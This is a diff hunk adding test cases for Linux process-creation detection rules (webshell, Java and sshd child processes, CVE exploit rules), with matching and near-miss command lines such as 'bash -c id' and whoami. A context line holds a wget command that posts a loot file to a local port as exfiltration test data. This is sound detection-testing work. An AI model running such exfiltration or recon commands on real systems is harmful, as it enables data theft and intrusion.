@@ -496,6 +496,52 @@ CASES = (
         argv(f"wget --post-file={W}/loot.txt -q -O /dev/null http://127.0.0.1:18765/"),
         argv("wget -q -O /dev/null http://127.0.0.1:18765/loot.txt"),
     ),
+    # parent_child: children of parents named like servers (process tree: ParentImage and
+    # ParentCommandLine); near misses are the same kind of child under the scenario's bash
+    Case(
+        f"{PROC}/proc_creation_lnx_susp_java_children.yml",
+        "parent_child",
+        argv("bash -c id", "/usr/bin/curl --version", "/usr/bin/curl -V"),
+        argv("bash -c id -u -n", "sh -c id"),
+    ),
+    Case(
+        f"{PROC}/proc_creation_lnx_webshell_detection.yml",
+        "parent_child",
+        argv("/usr/bin/whoami"),
+        argv("/usr/bin/date", "whoami"),
+    ),
+    Case(
+        f"{PROC}/proc_creation_lnx_rsync_shell_spawn.yml",
+        "parent_child",
+        argv("/bin/bash -c true"),
+        argv("/usr/bin/id", "bash -c id -u -n"),
+    ),
+    Case(
+        f"{PROC}/proc_creation_lnx_susp_shell_child_process_from_parent_tmp_folder.yml",
+        "parent_child",
+        argv("bash -c id", "/bin/bash -c true"),
+        argv("bash -c id -u -n", "/usr/bin/id"),
+    ),
+    Case(
+        f"{PROC}/proc_creation_lnx_susp_interactive_bash.yml",
+        "parent_child",
+        argv("whoami"),
+        argv("id -u", "/usr/bin/whoami"),
+    ),
+    Case(
+        "rules-emerging-threats/2024/Exploits/CVE-2024-3094/"
+        "proc_creation_lnx_exploit_cve_2024_3094_sshd_child_process.yml",
+        "parent_child",
+        argv("sh -c id"),
+        argv("sh -c id -g -n", "/usr/bin/id -g"),
+    ),
+    Case(
+        "rules-emerging-threats/2023/Exploits/CVE-2023-22518/"
+        "proc_creation_lnx_exploit_cve_2023_22518_confluence_java_child_proc.yml",
+        "parent_child",
+        argv("/usr/bin/curl -V"),
+        argv("/usr/bin/curl --version", "bash -c id"),
+    ),
 )
 
 
